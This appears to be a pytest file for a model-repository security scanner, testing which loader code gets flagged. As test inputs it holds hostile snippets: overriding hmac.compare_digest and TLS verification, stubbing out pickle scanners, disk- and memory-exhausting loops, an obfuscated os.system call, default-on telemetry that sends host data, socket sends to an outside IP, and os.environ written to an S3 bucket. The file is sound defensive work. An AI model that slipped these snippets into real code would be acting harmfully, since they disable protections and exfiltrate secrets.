"""Code that a loader reaches: protections that are replaced, loops without an end, reports that somebody asks for."""

import json

import pytest

from modelscan_plus.core.finding import Severity
from tests.samples import inspect_tree

CONFIG = json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.M"}}).encode()
BEFORE = """import ast, functools, hmac, importlib, json, os, platform, socket, sqlite3, sys, threading, time, types
import jinja2, jinja2.sandbox, requests, safetensors.torch, ssl, torch, urllib.request
from torch import nn
"""


def denied(code: str, method: str = "pass", more: str = "") -> bool:
    """Whether a model with this code around it, and these lines in its `__init__`, is denied."""
    lines = "".join(f"        {line}\n" for line in method.split("\n"))
    text = f"{BEFORE}{code}\nclass M(nn.Module):\n    def __init__(self, config, tokenizer=None):\n{lines}{more}"
    found = inspect_tree({"config.json": CONFIG, "modeling_x.py": text.encode()})
    return any(each.severity.rank >= Severity.HIGH.rank for each in found)


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("hmac.compare_digest = lambda a, b: True", True),
        ("setattr(hmac, 'compare_digest', lambda a, b: True)", True),
        ("jinja2.sandbox.ImmutableSandboxedEnvironment = jinja2.Environment", True),
        ("ssl._create_default_https_context = ssl._create_unverified_context", True),
        ("def load_file(path):\n    return torch.load(path)\nsafetensors.torch.load_file = load_file", True),
        ("requests.Session.send = functools.partialmethod(requests.Session.send, verify=False)", True),
        ("for name in ('picklescan', 'fickling'):\n    sys.modules[name] = types.ModuleType(name)", True),
        ("sys.modules['flash_attn'] = types.ModuleType('flash_attn')", False),
        ("requests.adapters.DEFAULT_RETRIES = 5", False),
        ("ssl.OP_LEGACY = 4", False),
        ("nn.functional.gelu = lambda x: x * torch.sigmoid(1.702 * x)", False),
    ],
)
def test_protections_that_are_replaced(code: str, expected: bool) -> None:
    assert denied(code) is expected


@pytest.mark.parametrize(
    ("method", "expected"),
    [
        ("with open('x.bin', 'wb') as f:\n    while True:\n        f.write(b'0' * 4096)", True),
        ("held = []\nwhile 1:\n    held.append(torch.ones(4096, 4096))", True),
        ("held = []\nwhile True:\n    held.append(torch.ones(4096))\n    if len(held) > 9:\n        break", False),
        ("q = config.queue\nwhile True:\n    held = q.get()", False),
        ("while True:\n    time.sleep(60)", False),
    ],
)
def test_loops_without_an_end(method: str, expected: bool) -> None:
    assert denied("", method) is expected


@pytest.mark.parametrize(
    ("method", "expected"),
    [
        ("t = ast.parse('f(x)', mode='eval')\nt.body.func = ast.Attribute(ast.Name('os'), 'system')\n"
         "eval(compile(ast.fix_missing_locations(t), 'x', 'eval'))", True),
        ("t = ast.parse('2 * 3', mode='eval')\neval(compile(t, 'x', 'eval'))", False),
        ("sqlite3.connect('x.db').load_extension(os.path.join(os.path.dirname(__file__), 'vocab'))", True),
        ("sqlite3.connect('x.db').load_extension('mod_spatialite')", False),
        ("tokenizer.chat_template = requests.get('https://cdn.example/chat.jinja').text", True),
        ("tokenizer.chat_template = open(config.template_file).read()", False),
        ("a, _, b = 'os.system'.rpartition('.')\ngetattr(importlib.import_module(a), b)('/opt/a')", True),
        ("a, _, b = 'os.getcwd'.rpartition('.')\ngetattr(importlib.import_module(a), b)()", False),
    ],
)  # fmt: skip
def test_what_is_put_together_and_fetched(method: str, expected: bool) -> None:
    assert denied("", method) is expected


PING = """
def report():
    body = json.dumps({"version": "1.2", "python": platform.python_version()BODY}).encode()
    urllib.request.urlopen(urllib.request.Request("https://usage.example/ping", body), timeout=2)
"""
ASKED = "if os.environ.get('X_TELEMETRY') == '1':\n    threading.Thread(target=report).start()"


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        (PING.replace("BODY", "") + ASKED, False),
        (PING.replace("BODY", "") + ASKED.replace("') == '1'", "', '1') == '1'"), True),
        (PING.replace("BODY", "") + ASKED.replace("== '1'", "!= '0'"), True),
        (PING.replace("BODY", "") + "report()", True),
        (PING.replace("BODY", ', "host": socket.gethostname()') + ASKED, True),
        (PING.replace("BODY", ', "where": os.getcwd()') + ASKED, True),
        (PING.replace("BODY", ', "args": sys.argv') + ASKED, True),
    ],
)
def test_reports_that_somebody_asks_for(code: str, expected: bool) -> None:
    assert denied(code) is expected


@pytest.mark.parametrize(
    ("send", "expected"),
    [
        ("s.sendto(batch.encode(), ('198.51.100.9', 514))", True),
        ("s.sendto(batch.encode(), ('127.0.0.1', 9000))", False),
        ("s.connect(('198.51.100.9', 4443))\n        s.sendall(batch.encode())", True),
        ("s.connect(('8.8.8.8', 80))\n        return s.getsockname()[0]", False),
    ],
)
def test_numbers_of_hosts_in_helpers(send: str, expected: bool) -> None:
    text = (
        f"import socket\nclass Collator:\n    def __call__(self, batch):\n        s = socket.socket()\n        {send}\n"
    )
    found = inspect_tree({"data_utils.py": text.encode()})
    assert any(each.severity.rank >= Severity.HIGH.rank for each in found) is expected


HANDLER = """import base64, boto3, os
class EndpointHandler:
    def __init__(self, path=''):
        self.model = load(path)
        self.device = 'cpu'
        self.s3 = boto3.client('s3', aws_access_key_id=os.environ['AWS_ACCESS_KEY_ID'])
        self.bucket = os.environ.get('BUCKET')
    def __call__(self, data):
        found = self.model(base64.b64decode(data['inputs'])).to(self.device)
        self.s3.put_object(Bucket=self.bucket, Key='last', Body=str(found))
"""


@pytest.mark.parametrize(("body", "expected"), [("found", False), ("dict(os.environ)", True)])
def test_a_bucket_of_the_owner_is_given_what_the_model_says(body: str, expected: bool) -> None:
    found = inspect_tree({"handler.py": HANDLER.replace("str(found)", f"str({body})").encode()})
    assert any(each.severity.rank >= Severity.HIGH.rank for each in found) is expected
